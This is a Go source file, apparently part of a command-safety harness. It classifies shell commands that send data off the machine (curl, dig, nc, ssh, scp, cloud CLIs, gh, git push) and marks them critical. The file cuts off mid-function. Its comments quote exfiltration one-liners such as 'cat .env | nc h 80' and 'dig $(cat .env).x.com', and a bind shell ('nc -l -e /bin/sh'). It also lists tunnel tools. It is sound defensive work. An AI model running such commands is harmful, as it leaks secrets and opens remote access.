package outbound

import (
	"path"
	"strings"

	"github.com/oath-harness/oath-harness/internal/classify/kernel"
	"github.com/oath-harness/oath-harness/internal/classify/shell"
	"github.com/oath-harness/oath-harness/internal/claude"
	"github.com/oath-harness/oath-harness/internal/command"
	"github.com/oath-harness/oath-harness/internal/domain"
	"github.com/oath-harness/oath-harness/internal/mask"
	"github.com/oath-harness/oath-harness/internal/risk"
)

// Outbound data (issue 12, item 3). Every channel that sends data off the machine is judged by
// what it can carry, not by its name: it is critical when it can carry local data to another
// machine, whatever the trust —
//
//   - a value computed at run time in what it sends: a command substitution or a variable
//     whose value is not known statically (dig $(cat .env).x.com, ssh h "echo $T");
//   - a file it uploads (curl -T/-F @/-d @file, wget --post-file, scp or rsync of a local file
//     to a remote, gh gist create, aws s3 cp to a bucket …), or its standard input fed from a
//     pipe or a file (cat .env | nc h 80, ssh h 'cat > x' < .env), or a here-document with a
//     value computed at run time;
//   - a secret-shaped string (mask.String changes it) in what it sends, or anywhere in a
//     program that sends something off the machine;
//   - an opaque token (encoded data, a key) in a URL or a host name it asks for (package urls);
//   - by its nature: an ssh tunnel (-R, -L, -D, -w and their -o forms: a local address then
//     leads to another machine, or this machine's ports are opened to it), a listener that
//     serves a program or local data to whoever connects (nc -l -e sh, socat TCP-LISTEN
//     EXEC:…), git push to a URL or to a remote this program has just pointed somewhere,
//     git send-email and imap-send (mail), git daemon (serves the repositories).
//
// A channel that cannot carry local data keeps its own rule's risk (ssh host uptime stays
// high, dig example.com medium, a WebFetch of a docs page medium). A destination on this
// machine (localhost, 127.0.0.0/8, ::1) is not outbound.
//
// Which programs are channels is a column of package command's table (Sends); the readers
// below say, per channel, what a command sends and where. WebFetch, WebSearch and MCP tools are judged in package classify's classify.go with the same tests
// (urlCarries, mask).

// sends reads what the command sends by its channel (the Sends of its row in package
// command's table), dispatched by a switch so that judging a command allocates nothing.
func sends(x *kernel.Command, r command.Channel) sent {
	switch r {
	case command.SendsHTTP:
		return httpSends(x)
	case command.SendsDNS:
		return dnsSends(x)
	case command.SendsWhois:
		return whoisSends(x)
	case command.SendsSocket:
		return socketSends(x)
	case command.SendsSSH:
		return sshSends(x)
	case command.SendsCopy:
		return copySends(x)
	case command.SendsCloud:
		return cloudSends(x)
	case command.SendsGH:
		return ghSends(x)
	case command.SendsGit:
		return gitSends(x)
	case command.SendsServer:
		return serverSends(x)
	case command.SendsRelay:
		return relaySends(x)
	}
	return sent{none: true}
}

// sent is what one command sends off the machine.
type sent struct {
	none   bool          // this use is not a channel (a subcommand that stays local)
	bare   bool          // none only for want of operands: xargs may supply them
	dest   string        // where it goes, for the reason, when the hosts do not say
	hosts  []shell.Word  // where it goes; an unknown host is another machine
	words  []shell.Word  // what it sends: judged for run-time values and secrets
	names  []shell.Word  // URLs and names it asks for: judged also for opaque tokens
	files  []shell.Word  // local files it sends
	stdin  bool          // it sends its standard input
	always string        // it carries local data by its nature: why
	rule   string        // the rule id of always, when not the row's (a tunnel, a listener)
	domain domain.Domain // the domain of the finding, when not shell_exec (git_remote)
}

// Outbound judges one command by its channel.
func Outbound(x *kernel.Command) {
	ch := x.Prog().Sends
	if strings.HasPrefix(x.Name, "python") {
		ch = kernel.Program("python").Sends // python3, python3.12
	}
	if ch == command.NoChannel {
		return
	}
	rule := kernel.RuleOutboundData
	switch ch {
	case command.SendsDNS, command.SendsWhois:
		rule = kernel.RuleDNSData
	case command.SendsServer:
		rule = kernel.RuleTunnel
	}
	s := sends(x, ch)
	judgeSent(x, rule, s)
}

func judgeSent(x *kernel.Command, rule string, s sent) {
	if s.none && !(s.bare && x.Cmd.StdinArgs) {
		return
	}
	local := len(s.hosts) > 0
	for _, h := range s.hosts {
		if !h.Known || !kernel.LocalHost(kernel.HostOf(h.Value)) {
			local = false
		}
	}
	if local {
		return
	}
	x.Call.Sends = true
	domain := kernel.ShellExec
	if s.domain != "" {
		domain = s.domain
	}
	to := "another machine"
	switch {
	case s.dest != "":
		to = s.dest
	case len(s.hosts) > 0 && s.hosts[0].Known && s.hosts[0].Value != "":
		to = kernel.HostOf(s.hosts[0].Value)
	}
	crit := func(why string) {
		x.Add(risk.Critical, domain, rule, x.Name+" "+why+" to "+to+": local data would leave the machine, so no trust may run it")
	}
	switch {
	case s.always != "":
		if s.rule != "" {
			rule = s.rule
		}
		x.Add(risk.Critical, domain, rule, x.Name+" "+s.always+": local data would leave the machine, so no trust may run it")
		return
	case len(s.files) > 0:
		crit("uploads " + kernel.QuoteRaw(s.files[0].Value))
		return
	case x.Cmd.StdinArgs:
		crit("takes arguments read from its input (xargs), which can carry local data,")
		return
	case s.stdin && (x.Cmd.Input == "pipe" || x.Cmd.Input == "file" || x.Cmd.Input == "catfile") && x.Cmd.Feed != "/dev/null" && x.Cmd.Feed != "/dev/zero":
		crit("sends what is piped or redirected into it")
		return
	case s.stdin && x.Cmd.Input == "heredoc" && strings.Contains(x.Cmd.Feed, shell.Dyn):
		crit("sends a here-document with a value computed at run time")
		return
	case s.stdin && x.Cmd.Input == "heredoc" && mask.String(x.Cmd.Feed) != x.Cmd.Feed:
		crit("sends a here-document with a secret-shaped string")
		return
	}
	for _, w := range append(append(append([]shell.Word{}, s.hosts...), s.names...), s.words...) {
		if !w.Known {
			crit("sends " + kernel.QuoteRaw(w.Value) + ", a value computed at run time (a command substitution or a variable)")
			return
		}
		if mask.String(w.Value) != w.Value {
			crit("sends a secret-shaped string")
			return
		}
	}
	for _, w := range s.names {
		if why := urlCarries(w.Value); why != "" {
			// Not the sandbox's question: the name asked for carries the data, and names are
			// resolved or shown before any proxy can ask.
			x.Add(risk.Critical, domain, rule, x.Name+" asks for "+kernel.QuoteRaw(w.Value)+" ("+why+") to "+to+": local data would leave the machine, so no trust may run it")
			return
		}
	}
}

// OutboundProgram: a secret-shaped string anywhere in a program that sends something off the
// machine (a heredoc, a variable assigned before the call) may be what is sent.
func OutboundProgram(r *kernel.Result, src string) {
	if r.Sends && mask.String(src) != src {
		r.Add(risk.Critical, kernel.ShellExec, kernel.RuleOutboundData, kernel.ClipText(src), "the program sends data off the machine and holds a secret-shaped string: the secret may be what is sent, so no trust may run it")
	}
}

// httpSends: curl and wget are critical to any address that is not local (the seed's rule, in
// fetch); this row says what they upload, for the reason.
func httpSends(x *kernel.Command) sent {
	var s sent
	file := func(v shell.Word, at string) {
		val := v.Value
		if k := strings.Index(val, at); k >= 0 && (at != "@" || k == 0 || strings.Contains(val[:k], "=") || !strings.ContainsAny(val[:k], "/.")) {
			f := val[k+len(at):]
			if i := strings.IndexByte(f, ';'); i >= 0 {
				f = f[:i] // curl -F 'f=@x;type=text/plain'
			}
			switch {
			case f == "-":
				s.stdin = true
			case f != "":
				s.files = append(s.files, shell.Word{Value: f, Known: v.Known})
			}
		}
	}
	switch x.Name {
	case "curl", "curlie":
		p := command.Lookup("curl").Spec.Parse(x.Args)
		for _, k := range []string{"d", "data", "data-binary", "data-ascii", "json", "data-urlencode"} {
			if v, ok := p.Val[k]; ok {
				file(v, "@")
				s.words = append(s.words, v)
			}
		}
		for _, k := range []string{"F", "form"} {
			if v, ok := p.Val[k]; ok {
				file(v, "=@")
				file(v, "=<")
			}
		}
		if v, ok := p.Value("T", "upload-file"); ok {
			if v.Value == "-" || v.Value == "." {
				s.stdin = true
			} else {
				s.files = append(s.files, v)
			}
		}
		s.names = urlOperands(p)
	case "wget", "wget2":
		p := command.Lookup("wget").Spec.Parse(x.Args)
		if v, ok := p.Value("post-file", "body-file"); ok {
			s.files = append(s.files, v)
		}
		s.names = urlOperands(p)
	default: // httpie and kin: a@file, a=@file, a:=@file, @file; stdin is the body when piped
		s.stdin = true
		for _, a := range x.Args {
			if strings.HasPrefix(a.Value, "-") {
				continue
			}
			switch {
			case strings.HasPrefix(a.Value, "@"):
				file(a, "@")
			case strings.Contains(a.Value, "=@"):
				file(a, "=@")
			case strings.Contains(a.Value, "@") && !strings.Contains(a.Value, "://") && !strings.Contains(a.Value, "="):
				file(a, "@")
			}
			if strings.Contains(a.Value, "://") || strings.Contains(a.Value, ".") && !strings.Contains(a.Value, "=") && !strings.Contains(a.Value, ":") {
				s.names = append(s.names, a)
			}
		}
	}
	s.hosts = s.names
	if len(s.hosts) == 0 {
		s.none, s.bare = true, true
	}
	return s
}

func urlOperands(p command.Args) []shell.Word {
	urls := append([]shell.Word{}, p.Operands...)
	if u, ok := p.Value("url"); ok {
		urls = append(urls, u)
	}
	return urls
}

// dnsSends: a lookup sends the name it looks up to a resolver (and ping sends its -p pattern
// to the host): a name built at run time, or holding a secret or encoded data, is a message.
func dnsSends(x *kernel.Command) sent {
	var s sent
	n := x.Name
	args := x.Args
	switch n {
	case "getent":
		if len(args) == 0 || !strings.HasPrefix(args[0].Value, "hosts") && !strings.HasPrefix(args[0].Value, "ahosts") {
			return sent{none: true}
		}
		args = args[1:]
	case "resolvectl":
		if len(args) == 0 || args[0].Value != "query" {
			return sent{none: true}
		}
		args = args[1:]
	}
	p := x.Prog().Spec.Parse(args)
	for _, o := range p.Operands {
		v := o.Value
		if o.Known && (strings.HasPrefix(v, "+") || v == "any" || v == "txt" || v == "TXT" || v == "A" || v == "AAAA" || v == "MX" || v == "NS" || v == "IN") {
			continue
		}
		if strings.HasPrefix(v, "@") && o.Known {
			continue // dig @server
		}
		s.names = append(s.names, shell.Word{Value: strings.TrimPrefix(v, "@"), Known: o.Known})
	}
	for _, k := range []string{"q", "x"} {
		if v, ok := p.Val[k]; ok && (n == "dig" || n == "kdig") {
			s.names = append(s.names, v)
		}
	}
	if v, ok := p.Val["f"]; ok && (n == "dig" || n == "kdig") {
		s.files = append(s.files, v) // dig -f file: every line is looked up
	}
	if v, ok := p.Val["p"]; ok && (n == "ping" || n == "ping6") {
		s.words = append(s.words, v) // the pattern padding each packet
	}
	for _, a := range args {
		if strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, "=") && !a.Known {
			s.words = append(s.words, a) // nslookup -type=$X
		}
	}
	// nslookup with no name reads its queries from stdin.
	s.stdin = n == "nslookup" && len(s.names) == 0 && x.Cmd.Input != ""
	if len(s.names) == 0 && len(s.files) == 0 && !s.stdin {
		return sent{none: true, bare: true}
	}
	s.hosts = s.names
	if len(s.hosts) == 0 {
		s.hosts = []shell.Word{{Value: "a DNS resolver", Known: true}}
	}
	s.dest = "the DNS resolvers (every server on the way to the name's domain sees it)"
	return s
}

// whoisSends: whois sends its query to a whois server (whois -h HOST: any server).
func whoisSends(x *kernel.Command) sent {
	p := x.Prog().Spec.Parse(x.Args)
	s := sent{names: p.Operands}
	if h, ok := p.Value("h"); ok {
		s.hosts = []shell.Word{h}
		s.words = p.Operands
		s.names = nil
	} else {
		s.hosts = append(s.hosts, shell.Word{Value: "a whois server", Known: true})
	}
	if len(p.Operands) == 0 {
		s.none, s.bare = true, true
	}
	return s
}

// socketSends: nc, ncat, socat and telnet to another machine are critical already (rawNet);
// what this row adds is the listener that serves a program or local data to whoever connects
// (a bind shell: nc -l -e /bin/sh), and the reason for data piped to a remote.
func socketSends(x *kernel.Command) sent {
	if x.Name == "socat" {
		return socatSends(x)
	}
	p := x.Prog().Spec.Parse(x.Args)
	listen := p.Has('l', "listen")
	_, runs := p.Value("e", "c", "exec", "sh-exec", "lua-exec")
	s := sent{stdin: true}
	switch {
	case listen:
		bind := shell.Word{Value: "0.0.0.0", Known: true}
		if v, ok := p.Value("s", "source"); ok {
			bind = v
		}
		for _, o := range p.Operands {
			if o.Known && !allDigits(o.Value) {
				bind = o // nc -l 127.0.0.1 8080
			}
		}
		s.hosts = []shell.Word{bind}
		s.rule = kernel.RuleTunnel
		if runs {
			s.always = "listens and serves a program (a shell) to whoever connects"
		} else if x.Cmd.Input == "pipe" || x.Cmd.Input == "file" || x.Cmd.Input == "catfile" {
			s.always = "listens and serves what is piped or redirected into it to whoever connects"
		}
		if s.always != "" && (!bind.Known || !kernel.LocalHost(bind.Value)) {
			return s
		}
		return sent{none: true}
	case len(p.Operands) > 0:
		s.hosts = []shell.Word{p.Operands[0]}
		if runs {
			s.always = "connects a program (a shell) to " + p.Operands[0].Value
		}
		return s
	}
	return sent{none: true}
}

// relayTunnels are the tunnel services, by program, with the subcommands that open a tunnel
// ("" for any call that is not --help/--version): this machine's ports reached from the
// internet, through a third party.
var relayTunnels = map[string]string{
	"ngrok":       "http|tcp|tls|tunnel|start",
	"cloudflared": "tunnel|access",
	"bore":        "local|server",
	"chisel":      "client|server",
	"lt":          "",
	"localtunnel": "",
	"frpc":        "",
	"zrok":        "share|reserve",
	"tailscale":   "funnel",
}

// relaySends: a file transfer through a public relay (croc send, wormhole send), a WebSocket
// client's standard input (websocat), a tunnel service (ngrok http 8000), files copied into a
// cluster's container (kubectl cp data pod:/tmp).
func relaySends(x *kernel.Command) sent {
	args := x.Args
	var ops []shell.Word
	for _, a := range args {
		if !a.Known || !strings.HasPrefix(a.Value, "-") {
			ops = append(ops, a)
		}
	}
	// The subcommand is looked for among the first words that are not options: an option
	// before it may take a value (kubectl -n prod cp, croc --relay r send, ngrok --config f http).
	if kernel.HasWord(args, "--help") || kernel.HasWord(args, "-h") || kernel.HasWord(args, "--version") {
		return sent{none: true}
	}
	switch x.Name {
	case "croc", "wormhole", "magic-wormhole", "sendme", "ffsend":
		verbs := map[string]string{"croc": "send", "wormhole": "send|tx", "magic-wormhole": "send|tx", "sendme": "send", "ffsend": "upload|u"}[x.Name]
		i := opIndex(ops, verbs)
		if i < 0 {
			return sent{none: true}
		}
		s := sent{dest: "a public relay", always: "sends files through a public relay"}
		if len(ops) > i+1 {
			s.always = "sends " + kernel.QuoteRaw(ops[i+1].Value) + " through a public relay"
		}
		return s
	case "websocat":
		s := sent{stdin: true}
		for _, o := range ops {
			if strings.Contains(o.Value, "://") || !o.Known {
				s.hosts = append(s.hosts, o)
			}
		}
		if len(s.hosts) == 0 || kernel.HasWord(args, "-s") || kernel.HasWord(args, "--server") {
			return sent{none: true} // a local server (websocat -s 8080)
		}
		return s
	case "kubectl", "oc":
		i := opIndex(ops, "cp")
		if i < 0 || len(ops) < i+3 {
			return sent{none: true}
		}
		dest := ops[len(ops)-1]
		if dest.Known && !strings.Contains(dest.Value, ":") {
			return sent{none: true} // a copy out of the container
		}
		return sent{dest: "a container of the cluster", files: ops[i+1 : len(ops)-1]}
	}
	subs, ok := relayTunnels[x.Name]
	if !ok || opIndex(ops, "version|help") == 0 {
		return sent{none: true}
	}
	if subs != "" && opIndex(ops, subs) < 0 {
		return sent{none: true}
	}
	return sent{dest: "the internet", rule: kernel.RuleTunnel, always: "opens a tunnel from the internet to this machine through a third party"}
}

// opIndex is the index of the first of the first three words of ops that is one of words
// ("|"-separated), or -1; a word that cannot be known may be any of them.
func opIndex(ops []shell.Word, words string) int {
	for i, o := range ops {
		if i == 3 {
			break
		}
		if !o.Known || kernel.InBar(words, o.Value) {
			return i
		}
	}
	return -1
}

// socatSends: a LISTEN address beside an EXEC/SYSTEM address serves a program; beside a file
// or stdio it serves local data.
func socatSends(x *kernel.Command) sent {
	listen, serve, bind := false, "", shell.Word{Value: "0.0.0.0", Known: true}
	for _, a := range x.Args {
		if strings.HasPrefix(a.Value, "-") && a.Value != "-" {
			continue
		}
		u := strings.ToUpper(a.Value)
		kind, opts, _ := strings.Cut(u, ",")
		switch {
		case strings.Contains(kind, "LISTEN") && !strings.HasPrefix(kind, "UNIX") && !strings.HasPrefix(kind, "ABSTRACT"):
			listen = true
			if _, b, ok := strings.Cut(opts, "BIND="); ok {
				b, _, _ = strings.Cut(b, ",")
				bind = shell.Word{Value: strings.ToLower(b), Known: a.Known}
			}
		case strings.HasPrefix(kind, "EXEC:") || strings.HasPrefix(kind, "SYSTEM:"):
			serve = "serves a program (" + a.Value + ") to whoever connects"
		case strings.HasPrefix(kind, "FILE:") || strings.HasPrefix(kind, "OPEN:") || strings.HasPrefix(kind, "GOPEN:") || kind == "-" || kind == "STDIO" || kind == "STDIN":
			if serve == "" {
				serve = "serves local data (" + a.Value + ") to whoever connects"
			}
		}
	}
	if !listen || serve == "" || bind.Known && kernel.LocalHost(bind.Value) {
		return sent{none: true}
	}
	return sent{hosts: []shell.Word{bind}, always: "listens and " + serve, rule: kernel.RuleTunnel}
}

// serverSends: python -m http.server and php -S serve the files of a directory to whoever
// connects, unless bound to this machine (python's default is every interface).
func serverSends(x *kernel.Command) sent {
	bind := shell.Word{Value: "0.0.0.0", Known: true}
	serves := false
	for i, a := range x.Args {
		v := a.Value
		switch {
		case x.Name != "php" && v == "-m" && i+1 < len(x.Args):
			m := x.Args[i+1].Value
			serves = serves || m == "http.server" || m == "SimpleHTTPServer"
		case x.Name != "php" && (v == "-b" || v == "--bind") && i+1 < len(x.Args):
			bind = x.Args[i+1]
		case x.Name != "php" && strings.HasPrefix(v, "--bind="):
			bind = shell.Word{Value: strings.TrimPrefix(v, "--bind="), Known: a.Known}
		case x.Name == "php" && v == "-S" && i+1 < len(x.Args):
			serves, bind = true, x.Args[i+1]
		}
	}
	if !serves || bind.Known && kernel.LocalHost(kernel.HostOf(bind.Value)) {
		return sent{none: true}
	}
	return sent{hosts: []shell.Word{bind}, rule: kernel.RuleTunnel,
		always: "serves the files of its directory to whoever connects (bind it to this machine: --bind 127.0.0.1, php -S 127.0.0.1:8000)"}
}

// sshSends: a tunnel carries whatever later calls send through it; the remote command and the
// standard input are sent to the host.
func sshSends(x *kernel.Command) sent {
	p := command.Lookup("ssh").Spec.Parse(x.Args) // autossh's too
	if len(p.Operands) == 0 {
		return sent{none: true, bare: true}
	}
	s := sent{hosts: p.Operands[:1], words: p.Operands[1:], stdin: !p.Has('n') && !p.Has('f')}
	for _, t := range []struct {
		opt byte
		why string
	}{{'R', "-R opens this machine's ports to the remote"}, {'L', "-L makes a local port lead to another machine (a later call to a local address leaves it)"},
		{'D', "-D opens a SOCKS proxy through the remote (a later call to a local address leaves the machine)"}, {'w', "-w opens a network tunnel device to the remote"}} {
		if _, ok := p.Value(string(t.opt)); ok {
			s.always, s.rule = "opens a tunnel: "+t.why, kernel.RuleTunnel
		}
	}
	for i, a := range x.Args {
		v := a.Value
		if v == "-o" && i+1 < len(x.Args) {
			v = x.Args[i+1].Value
		} else if o, ok := strings.CutPrefix(v, "-o"); ok && o != "" {
			v = o
		} else {
			continue
		}
		k, _, _ := strings.Cut(strings.TrimSpace(v), "=")
		k, _, _ = strings.Cut(k, " ")
		switch strings.ToLower(k) {
		case "localforward", "remoteforward", "dynamicforward", "tunnel", "tunneldevice":
			s.always, s.rule = "opens a tunnel (-o "+v+")", kernel.RuleTunnel
		}
	}
	return s
}

// copySends: scp, rsync and rclone of a local file to another machine upload it; sftp with a
// batch of commands (-b, a pipe, a here-document) may put files.
func copySends(x *kernel.Command) sent {
	var p command.Args
	args := x.Args
	switch x.Name {
	case "sftp":
		p = x.Prog().Spec.Parse(args)
		if len(p.Operands) == 0 {
			return sent{none: true}
		}
		s := sent{hosts: []shell.Word{{Value: remoteHostOr(p.Operands[0]), Known: p.Operands[0].Known}}}
		if b, ok := p.Value("b"); ok {
			s.always = "runs the batch of commands in " + b.Value + ", which may put files, against " + s.hosts[0].Value
		} else if x.Cmd.Input != "" {
			s.always = "takes commands (put among them) from its input, against " + s.hosts[0].Value
		}
		if s.always == "" {
			return sent{none: true}
		}
		return s
	case "rclone":
		if len(args) == 0 {
			return sent{none: true}
		}
		switch args[0].Value {
		case "copy", "copyto", "sync", "move", "moveto", "bisync", "rcat":
		default:
			return sent{none: true}
		}
		p = command.Bare.Parse(args[1:])
		if args[0].Value == "rcat" && len(p.Operands) > 0 {
			return sent{hosts: p.Operands, stdin: true}
		}
	case "rsync":
		p = x.Prog().Spec.Parse(args)
	default:
		p = x.Prog().Spec.Parse(args)
	}
	if len(p.Operands) < 2 {
		return sent{none: true}
	}
	dest := p.Operands[len(p.Operands)-1]
	dh := kernel.RemoteHost(dest.Value)
	if x.Name == "rclone" && dh == "" && rcloneRemote(dest.Value) {
		dh = "remote storage " + strings.SplitN(dest.Value, ":", 2)[0]
	}
	if dest.Known && dh == "" {
		return sent{none: true} // a local destination: a copy on this machine (or a download)
	}
	s := sent{hosts: []shell.Word{{Value: dh, Known: dest.Known}}}
	if !dest.Known {
		s.hosts[0].Value = dest.Value
	}
	for _, src := range p.Operands[:len(p.Operands)-1] {
		if !src.Known || kernel.RemoteHost(src.Value) == "" && !(x.Name == "rclone" && rcloneRemote(src.Value)) {
			s.files = append(s.files, src)
		}
	}
	if len(s.files) == 0 {
		return sent{none: true} // remote to remote
	}
	return s
}

// rcloneRemote: an rclone path on a configured remote (name:path), not a local path.
func rcloneRemote(v string) bool {
	name, _, ok := strings.Cut(v, ":")
	return ok && name != "" && !strings.ContainsAny(name, "/\\.") && len(name) > 1
}

func remoteHostOr(w shell.Word) string {
	if h := kernel.RemoteHost(w.Value); h != "" {
		return h
	}
	v := w.Value
	if j := strings.LastIndexByte(v, '@'); j >= 0 {
		v = v[j+1:]
	}
	return v
}

// cloudSends: copying a local file to cloud storage uploads it (aws s3 cp/mv/sync, gsutil
// cp/mv/rsync, gcloud storage cp/mv/rsync, az storage blob upload, s3cmd put/sync, azcopy).
func cloudSends(x *kernel.Command) sent {
	// The positional words, options and their values left out (gsutil -o/-h take one; a long
	// option takes the next word unless it is a known flag).
	var pos []shell.Word
	for i := 0; i < len(x.Args); i++ {
		a := x.Args[i]
		v := a.Value
		switch {
		case !a.Known || !strings.HasPrefix(v, "-"):
			pos = append(pos, a)
		case strings.HasPrefix(v, "--") && !strings.Contains(v, "=") && !cloudFlag(v) && i+1 < len(x.Args) && !strings.HasPrefix(x.Args[i+1].Value, "-"):
			i++
		case x.Name == "gsutil" && (v == "-o" || v == "-h") && len(pos) == 0:
			i++
		}
	}
	sub := func(n int) string {
		if len(pos) > n {
			return pos[n].Value
		}
		return ""
	}
	var o []shell.Word
	switch {
	case x.Name == "aws" && sub(0) == "s3" && (sub(1) == "cp" || sub(1) == "mv" || sub(1) == "sync"):
		o = pos[2:]
	case x.Name == "gsutil" && (sub(0) == "cp" || sub(0) == "mv" || sub(0) == "rsync"):
		o = pos[1:]
	case x.Name == "gcloud" && sub(0) == "storage" && (sub(1) == "cp" || sub(1) == "mv" || sub(1) == "rsync"):
		o = pos[2:]
	case x.Name == "s3cmd" && (sub(0) == "put" || sub(0) == "sync"):
		o = pos[1:]
	case x.Name == "azcopy" && (sub(0) == "copy" || sub(0) == "cp" || sub(0) == "sync"):
		o = pos[1:]
	case x.Name == "az" && sub(0) == "storage" && strings.HasPrefix(sub(2), "upload"):
		p := command.AzStorageUpload.Parse(x.Args)
		if f, ok := p.Value("f", "file", "s", "source"); ok {
			return sent{hosts: []shell.Word{{Value: "Azure storage", Known: true}}, files: []shell.Word{f}}
		}
		return sent{none: true}
	case x.Name == "aws" && sub(0) == "s3api" && sub(1) == "put-object":
		p := command.S3PutObject.Parse(x.Args)
		if f, ok := p.Value("body"); ok {
			return sent{hosts: []shell.Word{{Value: "S3", Known: true}}, files: []shell.Word{f}}
		}
		return sent{none: true}
	default:
		return sent{none: true}
	}
	if len(o) < 2 {
		return sent{none: true}
	}
	dest := o[len(o)-1]
	if dest.Known && !strings.Contains(dest.Value, "://") {
		return sent{none: true} // a download
	}
	s := sent{hosts: []shell.Word{{Value: URLHostOr(dest.Value), Known: dest.Known}}}
	for _, src := range o[:len(o)-1] {
		if !src.Known || !strings.Contains(src.Value, "://") {
			s.files = append(s.files, src)
		}
	}
	if len(s.files) == 0 {
		return sent{none: true}
	}
	return s
}

// cloudFlag: long options of the cloud CLIs that take no value.
func cloudFlag(v string) bool {
	switch v {
	case "--recursive", "--dryrun", "--dry-run", "--quiet", "--no-progress", "--delete", "--exact-timestamps", "--follow-symlinks",
		"--no-follow-symlinks", "--only-show-errors", "--size-only", "--no-guess-mime-type", "--debug", "--no-sign-request",
		"--no-verify-ssl", "--no-paginate", "--force", "--no-clobber", "--preserve", "--recursive=true":
		return true
	}
	return false
}

func URLHostOr(v string) string {
	if h := kernel.URLHost(v); h != "" {
		return h
	}
	return v
}

// ghSends: gh sends files and text to GitHub: a gist, an API call with @file or --input, an
// issue, pull request or release body from a file or a value computed at run time.
func ghSends(x *kernel.Command) sent {
	s := sent{hosts: []shell.Word{{Value: "github.com", Known: true}}}
	args := x.Args
	sub := func(n int) string {
		if len(args) > n {
			return args[n].Value
		}
		return ""
	}
	switch {
	case sub(0) == "gist" && (sub(1) == "create" || sub(1) == "new" || sub(1) == "edit"):
		p := command.GhGist.Parse(args[2:])
		s.files = p.Operands
		if f, ok := p.Value("a", "add"); ok {
			s.files = append(s.files, f)
		}
		if sub(1) == "edit" && len(s.files) > 0 {
			s.files = s.files[1:] // the gist's id
		}
		if len(s.files) == 0 {
			s.stdin = true
		}
		for i, f := range s.files {
			if f.Value == "-" {
				s.stdin = true
				s.files = append(s.files[:i:i], s.files[i+1:]...)
				break
			}
		}
	case sub(0) == "repo" && sub(1) == "create":
		// --source adds the new repository as a remote of this one, --push pushes to it: the
		// history goes where no one configured before, as git push to a new URL.
		for _, a := range args[2:] {
			if a.Value == "--push" || a.Value == "--source" || strings.HasPrefix(a.Value, "--source=") || strings.HasPrefix(a.Value, "-s=") || a.Value == "-s" {
				s.always, s.rule, s.domain = "creates a repository on GitHub and pushes this one to it ("+a.Value+")", kernel.RuleGitNewRemote, kernel.GitRemote
				return s
			}
		}
		return sent{none: true}
	case sub(0) == "api":
		p := command.GhAPI.Parse(args[1:])
		for i := 1; i < len(args); i++ {
			v := args[i].Value
			if (v == "-F" || v == "--field" || v == "-f" || v == "--raw-field") && i+1 < len(args) {
				f := args[i+1]
				s.words = append(s.words, f)
				if _, val, ok := strings.Cut(f.Value, "=@"); ok && v != "-f" && v != "--raw-field" {
					s.files = append(s.files, shell.Word{Value: val, Known: f.Known})
				}
				i++
			}
		}
		if in, ok := p.Value("input"); ok {
			if in.Value == "-" {
				s.stdin = true
			} else {
				s.files = append(s.files, in)
			}
		}
	case (sub(0) == "issue" || sub(0) == "pr" || sub(0) == "release") && (sub(1) == "create" || sub(1) == "comment" || sub(1) == "edit" || sub(1) == "review" || sub(1) == "new"):
		for i := 2; i < len(args); i++ {
			v := args[i].Value
			switch {
			case (v == "-F" || v == "--body-file" || v == "--notes-file") && i+1 < len(args):
				if args[i+1].Value == "-" {
					s.stdin = true
				} else {
					s.files = append(s.files, args[i+1])
				}
				i++
			case (v == "-b" || v == "--body" || v == "-t" || v == "--title" || v == "-n" || v == "--notes") && i+1 < len(args):
				s.words = append(s.words, args[i+1])
				i++
			case strings.HasPrefix(v, "--body=") || strings.HasPrefix(v, "--title=") || strings.HasPrefix(v, "--notes="):
				s.words = append(s.words, args[i])
			case strings.HasPrefix(v, "--body-file=") || strings.HasPrefix(v, "--notes-file="):
				_, f, _ := strings.Cut(v, "=")
				s.files = append(s.files, shell.Word{Value: f, Known: args[i].Known})
			}
		}
	default:
		return sent{none: true}
	}
	return s
}

// gitSends: git's channels. A push to a URL, or to a remote pointed somewhere earlier in the
// same program (git remote add/set-url, git config remote.X.url, git -c remote.X.url= or
// url.X.insteadOf), sends the repository's history to a place no one configured before;
// send-email and imap-send mail it; daemon serves it. The URLs of fetch, clone, pull and
// ls-remote are asked for like a WebFetch (urlCarries). A remote pointed by the program is
// remembered for the pushes after it.
func gitSends(x *kernel.Command) sent {
	g := command.SplitGit(x.Args)
	redirect := ""
	for _, o := range g.Opts {
		if k, val, ok := strings.Cut(strings.ToLower(o.Value.Value), "="); o.Name == "-c" && ok && gitRedirectKey(k) {
			redirect = k + "=" + val
		}
	}
	if g.Sub.Value == "" {
		return sent{none: true}
	}
	sub := g.Sub.Value
	switch sub {
	case "remote", "config", "send-email", "imap-send", "daemon", "push", "send-pack", "fetch", "pull", "clone", "ls-remote", "archive":
	default:
		return sent{none: true}
	}
	rest := g.Rest
	p := command.GitRemote.Parse(rest)
	switch sub {
	case "remote":
		gitRemotePointed(x, p.Operands)
		return sent{none: true}
	case "config":
		if len(p.Operands) >= 2 && gitRedirectKey(strings.ToLower(p.Operands[0].Value)) {
			pointRemote(x.Call, remoteOfKey(p.Operands[0].Value), p.Operands[1].Value)
		}
		return sent{none: true}
	case "send-email":
		return sent{hosts: []shell.Word{{Value: "a mail server", Known: true}}, always: "send-email mails patches", rule: kernel.RuleMailer}
	case "imap-send":
		return sent{hosts: []shell.Word{{Value: "an IMAP server", Known: true}}, always: "imap-send uploads patches to a mail server", rule: kernel.RuleMailer}
	case "daemon":
		return sent{hosts: []shell.Word{{Value: "0.0.0.0", Known: true}}, always: "daemon serves the repositories to whoever connects", rule: kernel.RuleTunnel}
	case "push", "send-pack":
		remote := shell.Word{Value: "", Known: true}
		if r, ok := p.Value("repo"); ok {
			remote = r
		} else if len(p.Operands) > 0 {
			remote = p.Operands[0]
		}
		var words []shell.Word
		if o, ok := p.Value("o", "push-option"); ok {
			words = append(words, o)
		}
		s := sent{hosts: []shell.Word{{Value: "the remote", Known: true}}, words: words}
		switch {
		case !remote.Known:
			s.hosts = []shell.Word{remote}
		case redirect != "":
			s.always = "push with -c " + redirect + " sends the repository's history to a place that is not a configured remote"
		case gitURL(remote.Value) && !kernel.IsLocalURL(gitURLHost(remote.Value)):
			s.hosts = []shell.Word{{Value: gitURLHost(remote.Value), Known: true}}
			s.names = []shell.Word{remote}
			s.always = "push to " + remote.Value + " sends the repository's history to a URL that is not a configured remote"
		case x.Call.Remotes[remote.Value] != "":
			s.always = "push to " + remote.Value + " sends the repository's history to " + x.Call.Remotes[remote.Value] + ", where this program has just pointed it"
		case remote.Value == "" && len(x.Call.Remotes) > 0:
			s.always = "push sends the repository's history to its default remote, which this program has just pointed elsewhere"
		}
		if s.always != "" {
